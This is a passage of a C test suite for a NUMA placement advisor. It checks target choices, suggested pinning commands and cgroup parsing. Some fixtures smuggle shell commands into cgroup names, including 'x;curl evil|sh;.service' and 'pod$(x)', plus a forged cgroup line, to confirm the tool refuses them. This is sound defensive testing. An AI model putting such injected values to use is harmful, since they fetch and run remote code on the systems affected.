// SPDX-License-Identifier: GPL-2.0
/*
 * The advisor on synthetic topologies with known answers (2, 4 and 8 nodes,
 * uneven distances, a memory-only node, full nodes, cpuset limits, a process
 * larger than a node, thresholds and hysteresis), the commands in each form,
 * the cgroup parsers and limits read from a scratch /proc and cgroup tree,
 * the suggestion in diagnose's JSON and text, pin --node auto's plan against
 * diagnose's, the load rule, and the auto-pin policy with fake hooks.
 */
#include "fixtures.h"

#include <math.h>
#include <json-c/json.h>
#include "advice_text.h"
#include "advisor.h"
#include "autopin.h"
#include "cgroup.h"
#include "log.h"
#include "model.h"
#include "pin.h"
#include "privs.h"
#include "procfs.h"
#include "report.h"

#define NODES 8

static struct nl_topology topo;
static struct nl_node_stat nodes[NODES];
static struct nl_proc_view view;
static struct nl_advisor_opts opts;
static double busy[NODES];
static const double window = 1.0;

static void dist_set(int a, int b, int d)
{
	topo.distance[a][b] = topo.distance[b][a] = d;
}

/* n nodes of cpus CPUs each (node i: CPUs i*cpus ...), mem bytes each, free bytes free. */
static void topo_make(int n, int cpus, uint64_t mem, uint64_t free_)
{
	int i, c;

	memset(&topo, 0, sizeof(topo));
	for (c = 0; c < NL_MAX_CPUS; c++)
		topo.cpu_node[c] = -1;
	topo.nr_node_ids = topo.nr_nodes = n;
	topo.nr_cpu_ids = n * cpus;
	for (i = 0; i < n; i++) {
		topo.node_present |= 1ull << i;
		topo.node_nr_cpus[i] = cpus;
		topo.node_mem_total[i] = mem;
		topo.node_mem_free[i] = free_;
		for (c = i * cpus; c < (i + 1) * cpus; c++) {
			topo.cpu_node[c] = i;
			topo.node_cpus[i][c / 64] |= 1ull << (c % 64);
		}
	}
	for (i = 0; i < n; i++)
		for (c = 0; c < n; c++)
			topo.distance[i][c] = i == c ? 10 : 20;
	topo.source = "test";
}

static int reset(void **state)
{
	topo_make(2, 2, 1 * GIB, 512 * MIB);
	memset(nodes, 0, sizeof(nodes));
	memset(busy, 0, sizeof(busy));
	memset(&view, 0, sizeof(view));
	view.pid = 42;
	strcpy(view.comm, "worker");
	view.node = nodes;
	view.mem_known = true;
	view.nr_threads = 2;
	nl_advisor_opts_default(&opts);
	return 0;
}

/* Evaluates the view as the model would, then advises. */
static void advise(struct nl_advice *a, const struct nl_proc_limits *l,
		   const struct nl_advice *prev)
{
	struct nl_advisor_input in = { .topo = &topo,
				       .v = &view,
				       .nr_nodes = topo.nr_node_ids,
				       .window_s = window,
				       .node_busy = busy,
				       .limits = l,
				       .prev = prev };

	nl_model_evaluate(&view, topo.nr_node_ids, &topo, window, &opts.thresholds);
	nl_advise(&in, &opts, a);
}

static void assert_near(double got, double want)
{
	if (got < want - 1e-6 || got > want + 1e-6)
		fail_msg("got %.9f, want %.9f", got, want);
}

static void assert_has(const char *text, const char *part)
{
	if (!strstr(text, part))
		fail_msg("'%s' does not contain '%s'", text, part);
}

static const char *cpus_of(const struct nl_advice *a)
{
	static char buf[256];

	return nl_bits_to_list(a->cpus, NL_MAX_CPUS, buf, sizeof(buf));
}

/* Threads on node 0, memory on node 1, node 1 idle: move the threads. */
static void test_two_nodes_affinity(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 128 * MIB;
	busy[0] = 2.0;
	advise(&a, NULL, NULL);
	assert_true(a.flagged);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_string_equal(cpus_of(&a), "2-3");
	assert_true(a.whole_nodes);
	assert_int_equal(a.move_bytes, 0);
	assert_near(a.remote_now, 1.0);
	assert_near(a.remote_after, 0.0);
	assert_near(a.dist_now, 20);
	assert_near(a.dist_after, 10);
	assert_near(a.target_load, 1.0);
	assert_has(a.reason, "run its threads on node 1 (CPUs 2-3)");
	assert_has(a.reason, "no memory moves");
}

/* Node 1 is busy with other work: move the memory to the threads instead. */
static void test_two_nodes_busy_target_migrates(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 128 * MIB;
	busy[0] = 2.0;
	busy[1] = 2.0;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 0);
	assert_int_equal(a.move_from, 1u << 1);
	assert_int_equal(a.move_bytes, 128 * MIB);
	assert_near(a.remote_after, 0);
	assert_has(a.reason, "move 128.0 MiB of its 128.0 MiB from node 1 to node 0");
	assert_has(a.reason, "node 1, nearest its memory, has no CPU headroom");

	/* Without page migration nothing fits: said, with why. */
	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_int_equal(a.block, NL_BLOCK_NO_ROOM);
	assert_has(a.reason, "node 1, nearest its memory, has no CPU headroom");
}

/* 70% on node 1, 30% on node 0 (where it runs): moving the threads leaves
 * 30% remote, so the 30% moves too; without migration, the threads move. */
static void test_split_memory(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 1.0;
	nodes[0].mem_bytes = 30 * MIB;
	nodes[1].mem_bytes = 70 * MIB;
	busy[0] = 1.0;
	advise(&a, NULL, NULL);
	assert_near(a.remote_now, 0.7);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 1);
	assert_int_equal(a.move_from, 1u << 0);
	assert_int_equal(a.move_bytes, 30 * MIB);
	assert_near(a.remote_after, 0);
	assert_has(a.reason, "moving the threads alone (to node 1) would leave 30% remote");

	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_near(a.remote_after, 0.3);
	assert_has(a.reason, "--migrate-memory");
}

/* Moving the threads leaves a little remote: 3% (stacks, libraries) stays
 * where it is; 8% follows the threads, and the action is still affinity. */
static void test_small_remainder(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 1.0;
	nodes[0].mem_bytes = 3 * MIB;
	nodes[1].mem_bytes = 97 * MIB;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_int_equal(a.move_bytes, 0);
	assert_near(a.remote_after, 0.03);

	nodes[0].mem_bytes = 8 * MIB;
	nodes[1].mem_bytes = 92 * MIB;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.move_from, 1u << 0);
	assert_int_equal(a.move_bytes, 8 * MIB);
	assert_near(a.remote_after, 0);
}

/* Four nodes with uneven distances: memory half on node 0, half on node 3,
 * which are far apart (40); node 1 is 12 from both. The threads run on node
 * 2 (30 from both). Without migration node 1 is the best place by distance
 * although none of the memory is local there; with it, half the memory
 * moves to node 0. */
static void test_four_nodes_uneven_distances(void **state)
{
	struct nl_advice a;

	topo_make(4, 2, 1 * GIB, 512 * MIB);
	dist_set(0, 1, 12);
	dist_set(1, 3, 12);
	dist_set(0, 3, 40);
	dist_set(0, 2, 30);
	dist_set(1, 2, 30);
	dist_set(2, 3, 30);
	nodes[2].cpu_s = 1.0;
	nodes[0].mem_bytes = 50 * MIB;
	nodes[3].mem_bytes = 50 * MIB;
	busy[2] = 1.0;

	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_string_equal(cpus_of(&a), "2-3");
	assert_near(a.dist_now, 30);
	assert_near(a.dist_after, 12);
	assert_has(a.reason, "mean distance 30 -> 12");

	opts.allow_migrate = true;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 0);
	assert_int_equal(a.move_from, 1u << 3);
	assert_int_equal(a.move_bytes, 50 * MIB);
}

/* Eight nodes on two sockets (16 within, 32 across): a 10 GiB process on
 * 8 GiB nodes is too large for one; it gets the closest pair holding it. */
static void test_eight_nodes_larger_than_a_node(void **state)
{
	struct nl_advice a;
	int i, j;

	topo_make(8, 2, 8 * GIB, 7 * GIB);
	for (i = 0; i < 8; i++)
		for (j = 0; j < 8; j++)
			if (i != j)
				topo.distance[i][j] = i / 4 == j / 4 ? 16 : 32;
	nodes[0].cpu_s = 2.0;
	nodes[0].mem_bytes = 1 * GIB;
	nodes[4].mem_bytes = 3 * GIB;
	nodes[5].mem_bytes = 6 * GIB;
	busy[0] = 2.0;

	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_true(a.multi_node);
	assert_int_equal(a.nodes, (1u << 4) | (1u << 5));
	assert_string_equal(cpus_of(&a), "8-11");
	assert_near(a.remote_after, 0.55);
	assert_has(a.reason, "too large for one node (10.0 GiB");

	opts.allow_migrate = true;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, (1u << 4) | (1u << 5));
	assert_int_equal(a.move_from, 1u << 0);
	assert_int_equal(a.move_bytes, 1 * GIB);

	/* Its commands name both nodes. */
	{
		struct nl_command c[NL_MAX_COMMANDS];
		size_t nr = nl_advice_commands(&a, 42, NULL, c, NL_MAX_COMMANDS);

		assert_int_equal(nr, 4);
		assert_string_equal(c[0].text, "taskset -a -p -c 8-11 42");
		assert_string_equal(c[1].text, "migratepages 42 0 4-5");
		assert_string_equal(c[2].text,
				    "numalens pin 42 --node 4-5 --migrate-memory --apply");
		assert_string_equal(c[3].text, "numactl --cpunodebind=4-5 --membind=4-5 COMMAND");
	}
}

/* Full nodes: node 1 has no CPU to spare and node 0 no memory to take
 * the pages; nothing fits, and it says so. */
static void test_full_nodes(void **state)
{
	struct nl_advice a;

	topo.node_mem_free[0] = 100 * MIB;
	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 900 * MIB;
	busy[0] = 2.0;
	busy[1] = 2.0;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_int_equal(a.block, NL_BLOCK_NO_ROOM);
	assert_has(a.reason, "no CPU headroom (2.0 of 2 CPUs busy by others, it needs 2.0)");
	assert_has(a.reason, "no node has the free memory");
}

/*
 * The load rule: a target may be busier than max_load (1.0) when it would
 * be no busier than where the process runs now. 4 threads held on node 0's
 * 2 CPUs, memory on node 1: first as measured in a 2-node guest (6.0737 CPU
 * s in a 3.0327 s window, 2.0027 CPUs: a slice over 2), then with other work
 * on both nodes.
 */
static void test_load_rule(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 6.0737 / 3.0327;
	nodes[1].mem_bytes = 64 * MIB;
	busy[0] = nodes[0].cpu_s;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_string_equal(cpus_of(&a), "2-3");
	assert_near(a.load_now, 6.0737 / 3.0327 / 2);
	assert_near(a.target_load, 6.0737 / 3.0327 / 2);
	opts.allow_migrate = false; /* the same without page migration */
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);

	/* 0.5 CPUs of other work on each node: 125% busy here and there. */
	nodes[0].cpu_s = 2.0;
	busy[0] = 2.5;
	busy[1] = 0.5;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 1);
	assert_near(a.load_now, 1.25);
	assert_near(a.target_load, 1.25);

	/* Up to 2 points more count as no higher (the accounting's error)... */
	busy[1] = 0.539;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_near(a.target_load, 1.2695);

	/* ... more is refused, and the reason gives both loads. */
	busy[1] = 0.541;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_int_equal(a.block, NL_BLOCK_NO_ROOM);
	assert_near(a.load_now, 1.25);
	assert_string_equal(
		a.reason, "node 1, nearest its memory, has no CPU headroom (0.5 of 2 CPUs busy by "
			  "others, it needs 2.0): 127% busy after the move, above both the 100% "
			  "limit and the 125% where it runs now");

	/* With page migration, the memory comes to node 0 instead. */
	opts.allow_migrate = true;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 0);
	assert_int_equal(a.move_bytes, 64 * MIB);
	assert_has(a.reason, "node 1, nearest its memory, has no CPU headroom");
}

static void limits_make(struct nl_proc_limits *l, const char *cpus, uint64_t mems)
{
	nl_proc_limits_unrestricted(&topo, l);
	assert_true(nl_cpulist_parse(cpus, strlen(cpus), l->cpus, NL_MAX_CPUS) > 0);
	l->mems = mems;
	l->known = true;
	l->cpuset_known = true;
	strcpy(l->cpuset_cgroup, "/test");
	strcpy(l->cpuset_cpus, cpus);
	nl_nodes_to_list(mems, l->cpuset_mems, sizeof(l->cpuset_mems));
}

/* A cpuset of node 0 only: the threads cannot go to node 1, the memory can
 * come to node 0; forcing node 1 is refused with the cpuset named. */
static void test_cpuset_limits(void **state)
{
	struct nl_proc_limits l;
	struct nl_advice a;

	limits_make(&l, "0-1", 1u << 0);
	nodes[0].cpu_s = 1.0;
	nodes[1].mem_bytes = 128 * MIB;
	busy[0] = 1.0;
	advise(&a, &l, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.nodes, 1u << 0);
	assert_int_equal(a.move_bytes, 128 * MIB);

	opts.allow_migrate = false;
	advise(&a, &l, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_int_equal(a.block, NL_BLOCK_CPUSET_CPUS);
	assert_has(
		a.reason,
		"node 1, nearest its memory, is outside its cpuset (cgroup /test: cpus 0-1, mems 0)");

	opts.force_nodes = 1u << 1;
	advise(&a, &l, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_int_equal(a.block, NL_BLOCK_CPUSET_CPUS);
	assert_int_equal(nl_pin_refusal_for(&a), NL_PIN_CPUSET);
	assert_has(a.reason,
		   "its cpuset (cgroup /test: cpus 0-1, mems 0) does not allow CPUs 2-3 of node 1");

	/* CPUs allowed, memory not: refused only when the pages would move. */
	limits_make(&l, "0-3", 1u << 0);
	advise(&a, &l, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	opts.allow_migrate = true;
	advise(&a, &l, NULL);
	assert_int_equal(a.block, NL_BLOCK_CPUSET_MEMS);
	assert_has(a.reason, "does not allow memory on node 1");

	/* Half of node 1's CPUs: the plan takes those, and says so. */
	limits_make(&l, "0-2", 3);
	opts.allow_migrate = false;
	advise(&a, &l, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_string_equal(cpus_of(&a), "2");
	assert_false(a.whole_nodes);
	assert_has(a.reason, "allows only CPU 2 of them");
}

/* --node / --cpus: a plan for the target named, whatever the thresholds. */
static void test_forced_targets(void **state)
{
	static uint64_t cpus[NL_CPU_WORDS];
	struct nl_command c[NL_MAX_COMMANDS];
	struct nl_advice a;
	size_t nr;

	nodes[0].cpu_s = 0.01; /* idle and local: not flagged */
	nodes[0].mem_bytes = 8 * MIB;
	opts.allow_migrate = false;
	cpus[0] = 1u << 1;
	opts.force_cpus = cpus;
	advise(&a, NULL, NULL);
	assert_false(a.flagged);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 0);
	assert_string_equal(cpus_of(&a), "1");
	assert_false(a.whole_nodes);
	nr = nl_advice_commands(&a, 42, NULL, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 3);
	assert_string_equal(c[0].text, "taskset -a -p -c 1 42");
	assert_string_equal(c[1].text, "numalens pin 42 --cpus 1 --apply");
	assert_string_equal(c[2].text, "numactl --physcpubind=1 --membind=0 COMMAND");

	/* No such node, no such CPU, a node without CPUs. */
	opts.force_cpus = NULL;
	opts.force_nodes = 1u << 5;
	advise(&a, NULL, NULL);
	assert_int_equal(a.block, NL_BLOCK_NO_NODE);
	assert_int_equal(nl_pin_refusal_for(&a), NL_PIN_BAD_TARGET);
	assert_has(a.reason, "node 5 does not exist here (2 nodes)");
	cpus[0] = 1u << 9;
	opts.force_cpus = cpus;
	opts.force_nodes = 0;
	advise(&a, NULL, NULL);
	assert_has(a.reason, "CPU 9 does not exist here");
	opts.force_cpus = NULL;
	topo.node_nr_cpus[1] = 0;
	opts.force_nodes = 1u << 1;
	advise(&a, NULL, NULL);
	assert_int_equal(a.block, NL_BLOCK_NO_CPUS);

	/* With migration: the bytes to move, and a warning when they do not fit. */
	topo_make(2, 2, 1 * GIB, 512 * MIB);
	nodes[0].mem_bytes = 600 * MIB;
	opts.allow_migrate = true;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	assert_int_equal(a.move_bytes, 600 * MIB);
	assert_has(a.reason, "warning: node 1 has 512.0 MiB free");
}

/* Thresholds: idle, small and mostly-local processes get nothing. */
static void test_thresholds(void **state)
{
	struct nl_advice a;

	nodes[0].cpu_s = 1.0;
	nodes[1].mem_bytes = 1 * MIB;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_false(a.flagged);
	assert_has(a.reason, "not flagged: 1.0 MiB resident, under --min-rss 4.0 MiB");

	nodes[0].cpu_s = 0.01;
	nodes[1].mem_bytes = 64 * MIB;
	advise(&a, NULL, NULL);
	assert_has(a.reason, "not flagged: 0.01 CPUs busy, under --min-cpu 0.05");

	opts.thresholds.min_cpu = 0;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);

	nodes[0].cpu_s = 1.0;
	nodes[0].mem_bytes = 80 * MIB;
	nodes[1].mem_bytes = 20 * MIB;
	advise(&a, NULL, NULL);
	assert_has(a.reason, "not flagged: 20% remote, under --min-remote-ratio 30%");
}

static void test_one_node_and_unknown_memory(void **state)
{
	struct nl_advice a;

	topo_make(1, 2, GIB, GIB);
	nodes[0].cpu_s = 2.0;
	nodes[0].mem_bytes = 64 * MIB;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_has(a.reason, "one NUMA node");

	reset(state);
	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 64 * MIB;
	opts.use_model_flag = true;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	view.mem_known = false;
	nodes[1].mem_bytes = 0;
	view.flagged = true;
	{
		struct nl_advisor_input in = {
			.topo = &topo, .v = &view, .nr_nodes = 2, .window_s = window
		};

		nl_advise(&in, &opts, &a);
	}
	assert_int_equal(a.action, NL_ACT_NONE);
	assert_has(a.reason, "memory per node is unknown");
}

/* Hysteresis: once flagged, a process stays until 10 points under the
 * threshold; a new target must beat the last by 15 points. */
static void test_hysteresis(void **state)
{
	struct nl_advice a, prev;

	nodes[0].cpu_s = 1.0;
	nodes[0].mem_bytes = 75 * MIB;
	nodes[1].mem_bytes = 25 * MIB;
	advise(&a, NULL, NULL);
	assert_false(a.flagged);
	prev = (struct nl_advice){ .action = NL_ACT_MIGRATE, .flagged = true, .nodes = 1 };
	advise(&a, NULL, &prev);
	assert_true(a.flagged);
	assert_int_equal(a.action, NL_ACT_MIGRATE);
	nodes[0].mem_bytes = 85 * MIB;
	nodes[1].mem_bytes = 15 * MIB;
	advise(&a, NULL, &prev);
	assert_false(a.flagged);

	/* The target: 52% on node 2, 48% on node 1, threads on node 0. */
	topo_make(4, 2, GIB, 512 * MIB);
	memset(nodes, 0, sizeof(nodes));
	nodes[0].cpu_s = 1.0;
	nodes[1].mem_bytes = 48 * MIB;
	nodes[2].mem_bytes = 52 * MIB;
	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 2);
	prev = (struct nl_advice){ .action = NL_ACT_AFFINITY, .flagged = true, .nodes = 1u << 1 };
	advise(&a, NULL, &prev);
	assert_int_equal(a.nodes, 1u << 1);
	assert_has(a.reason, "kept from before");
	/* A last target with none of the memory gives way. */
	prev.nodes = 1u << 3;
	advise(&a, NULL, &prev);
	assert_int_equal(a.nodes, 1u << 2);
}

/* A memory-only node (CXL): the threads go to the CPU node nearest to it. */
static void test_memory_only_node(void **state)
{
	struct nl_advice a;

	topo_make(3, 2, 4 * GIB, 2 * GIB);
	topo.node_nr_cpus[2] = 0;
	topo.node_cpus[2][0] = 0;
	topo.cpu_node[4] = topo.cpu_node[5] = -1;
	topo.nr_cpu_ids = 4;
	dist_set(0, 2, 14);
	dist_set(1, 2, 24);
	nodes[1].cpu_s = 1.0;
	nodes[2].mem_bytes = 100 * MIB;
	opts.allow_migrate = false;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);
	assert_int_equal(a.nodes, 1u << 0);
	assert_string_equal(cpus_of(&a), "0-1");
	assert_near(a.dist_after, 14);
}

/* The forms: Docker, Podman, systemd service and user unit, a pod, a plain process. */
static void test_commands_by_context(void **state)
{
	struct nl_command c[NL_MAX_COMMANDS];
	struct nl_proc_limits l;
	struct nl_advice a;
	size_t nr;

	nodes[0].cpu_s = 2.0;
	nodes[1].mem_bytes = 128 * MIB;
	advise(&a, NULL, NULL);
	assert_int_equal(a.action, NL_ACT_AFFINITY);

	nl_proc_limits_unrestricted(&topo, &l);
	strcpy(l.cmdline, "./app --size 'a b'");
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 3);
	assert_int_equal(c[0].form, NL_FORM_TASKSET);
	assert_string_equal(c[0].when, "now");
	assert_string_equal(c[1].text, "numalens pin 42 --node 1 --apply");
	assert_int_equal(c[2].form, NL_FORM_NUMACTL);
	assert_string_equal(c[2].when, "next start");
	assert_string_equal(c[2].text, "numactl --cpunodebind=1 --membind=1 ./app --size 'a b'");

	nl_cgroup_classify(
		"/system.slice/docker-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
		&l.ctx);
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 3);
	assert_int_equal(c[0].form, NL_FORM_DOCKER);
	assert_string_equal(c[0].text,
			    "docker update --cpuset-cpus 2-3 --cpuset-mems 1 0123456789ab");
	assert_int_equal(c[1].form, NL_FORM_TASKSET);

	nl_cgroup_classify(
		"/machine.slice/libpod-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope/container",
		&l.ctx);
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_string_equal(c[0].text,
			    "podman update --cpuset-cpus 2-3 --cpuset-mems 1 0123456789ab");

	nl_cgroup_classify("/system.slice/postgresql@15-main.service", &l.ctx);
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 4);
	assert_string_equal(c[0].text,
			    "systemctl set-property --runtime postgresql@15-main.service "
			    "AllowedCPUs=2-3 AllowedMemoryNodes=1");
	assert_int_equal(c[1].form, NL_FORM_UNIT_FILE);
	assert_string_equal(c[1].text, "[Service] CPUAffinity=2-3 NUMAPolicy=bind NUMAMask=1");

	nl_cgroup_classify("/user.slice/user-1000.slice/user@1000.service/app.slice/app-x.scope",
			   &l.ctx);
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_string_equal(c[0].text, "systemctl --user set-property --runtime app-x.scope "
				       "AllowedCPUs=2-3 AllowedMemoryNodes=1");
	assert_int_equal(c[nr - 1].form, NL_FORM_NUMACTL); /* a scope has no unit file */

	nl_cgroup_classify(
		"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod0f1e2d3c_4b5a_6978_8796_a5b4c3d2e1f0.slice/cri-containerd-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.scope",
		&l.ctx);
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 1);
	assert_int_equal(c[0].form, NL_FORM_KUBERNETES);
	assert_has(c[0].text, "pod 0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0");
	assert_has(c[0].text,
		   "--cpu-manager-policy=static --topology-manager-policy=single-numa-node");
	assert_has(c[0].text, "numalens does not pin pods");

	/* A name refused (test_shquote.c): no form needs it, and the reason says so. */
	nl_cgroup_classify("/user.slice/user-1000.slice/user@1000.service/x;curl evil|sh;.service",
			   &l.ctx);
	advise(&a, &l, NULL);
	assert_has(a.reason, "; its cgroup is not named as a systemd unit may be, so no "
			     "systemctl form is given");
	nr = nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS);
	assert_int_equal(nr, 3);
	assert_int_equal(c[0].form, NL_FORM_TASKSET);
	assert_int_equal(c[2].form, NL_FORM_NUMACTL);
	nl_cgroup_classify(
		"/kubepods/burstable/pod$(x)/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		&l.ctx);
	advise(&a, &l, NULL);
	assert_has(a.reason, "; its cgroup's pod UID is not in the kubelet's form, so the pod is "
			     "not named");
	nl_cgroup_classify("/system.slice/postgresql@15-main.service", &l.ctx);
	advise(&a, &l, NULL);
	assert_null(strstr(a.reason, "its cgroup"));

	/* Nothing to do, no commands. */
	a.action = NL_ACT_NONE;
	assert_int_equal(nl_advice_commands(&a, 42, &l, c, NL_MAX_COMMANDS), 0);
}

static void test_cgroup_classify(void **state)
{
	static const char id[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
	struct nl_cgroup_context c;
	char path[512];

	snprintf(path, sizeof(path), "/docker/%s", id);
	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_DOCKER);
	assert_string_equal(c.container, id);

	snprintf(path, sizeof(path),
		 "/kubepods/besteffort/pod0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0/%s", id);
	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_KUBERNETES);
	assert_string_equal(c.pod, "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0");
	assert_string_equal(c.container, id);

	nl_cgroup_classify("/user.slice/user-1000.slice/session-3.scope", &c);
	assert_int_equal(c.runtime, NL_RT_SYSTEMD);
	assert_string_equal(c.unit, "session-3.scope");
	assert_false(c.user_unit);

	nl_cgroup_classify("/user.slice/user-1000.slice/user@1000.service", &c);
	assert_string_equal(c.unit, "user@1000.service");
	assert_false(c.user_unit);

	nl_cgroup_classify("/", &c);
	assert_int_equal(c.runtime, NL_RT_NONE);
	nl_cgroup_classify("/process_api/134e75da", &c);
	assert_int_equal(c.runtime, NL_RT_NONE);
	assert_string_equal(nl_runtime_name(NL_RT_KUBERNETES), "kubernetes");
}

/* A name too long for its buffer is none, not cut to another unit's,
 * container's or pod's name. */
static void test_cgroup_names_whole(void **state)
{
	struct nl_cgroup_context c;
	char path[1024], name[300];

	memset(name, 'a', sizeof(name) - 1);
	name[sizeof(name) - 1] = '\0';
	/* Longer than systemd's 255 bytes: no unit, and not the outer one. */
	snprintf(path, sizeof(path), "/system.slice/x.service/%.260s.service", name);
	nl_cgroup_classify(path, &c);
	assert_string_equal(c.unit, "");
	assert_int_equal(c.refused, NL_REFUSED_UNIT);

	/* Not a container id: a scope unit of that name, as systemd has it. */
	snprintf(path, sizeof(path), "/system.slice/docker-%.200s.scope", name);
	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_SYSTEMD);
	assert_string_equal(c.container, "");

	snprintf(path, sizeof(path), "/kubepods/besteffort/pod%.80s/0123456789ab", name);
	nl_cgroup_classify(path, &c);
	assert_int_equal(c.runtime, NL_RT_KUBERNETES);
	assert_string_equal(c.pod, "");
	assert_string_equal(c.container, ""); /* 12 hex digits: not a whole id */
}

/* A cgroup named "a\n0::/system.slice/docker-ID.scope" forges a second
 * line: the hierarchy is then not known, as is one whose path does not
 * fit or holds a NUL. */
static void test_cgroup_paths_forged(void **state)
{
	static const char forged[] =
		"1:name=systemd:/user.slice/a\n"
		"0::/user.slice/a\n0::/system.slice/docker-0123456789ab.scope\n";
	static const char nul[] = "0::/user.slice/a\0b\n1:name=systemd:/user.slice\n";
	struct nl_cgroup_paths p;
	char text[700];

	assert_int_equal(nl_cgroup_paths_parse(forged, strlen(forged), &p), 0);
	assert_string_equal(p.unified, "");
	assert_string_equal(p.systemd, "/user.slice/a");

	snprintf(text, sizeof(text), "0::/%0600d\n", 0);
	assert_int_equal(nl_cgroup_paths_parse(text, strlen(text), &p), 0);
	assert_string_equal(p.unified, "");

	assert_int_equal(nl_cgroup_paths_parse(nul, sizeof(nul) - 1, &p), 0);
	assert_string_equal(p.unified, "");
	assert_string_equal(p.systemd, "/user.slice");
}

static void test_cgroup_parsers(void **state)
{
	static const char hybrid[] = "12:cpuset:/docker/abc\n"
				     "11:cpu,cpuacct:/\n"
				     "1:name=systemd:/system.slice/docker-abc.scope\n"
				     "0::/system.slice/docker-abc.scope\n";
	static const char mounts[] =
		"25 30 0:22 / /sys/fs/cgroup/unified rw,nosuid shared:9 - cgroup2 cgroup2 rw,nsdelegate\n"
		"35 25 0:30 / /sys/fs/cgroup/cpu\\040set rw,nosuid shared:15 - cgroup cgroup rw,cpuset\n"
		"36 25 0:31 /sub /sys/fs/cgroup/cpu rw shared:16 - cgroup cgroup rw,cpu,cpuacct\n"
		"37 30 8:1 / / rw - ext4 /dev/vda1 rw\n";
	struct nl_cgroup_paths p;
	struct nl_cgroup_mounts m;
	uint64_t bits[2] = { 0x0f, 1ull << 1 };
	char buf[64];

	assert_int_equal(nl_cgroup_paths_parse(hybrid, strlen(hybrid), &p), 0);
	assert_string_equal(p.unified, "/system.slice/docker-abc.scope");
	assert_string_equal(p.cpuset, "/docker/abc");
